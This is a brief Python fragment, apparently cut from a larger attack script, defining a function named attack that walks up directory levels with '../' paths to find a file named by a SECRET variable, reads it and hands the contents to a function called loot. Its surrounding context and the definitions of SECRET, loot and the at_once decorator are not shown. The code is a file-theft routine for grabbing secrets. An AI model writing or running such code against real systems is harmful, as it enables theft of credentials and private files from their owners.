@at_once
def attack():
    for height in range(12):
        path = '../' * height + SECRET.split('/')[-2] + '/' + SECRET.split('/')[-1]
        if os.path.exists(path):
            loot(open(path).read())
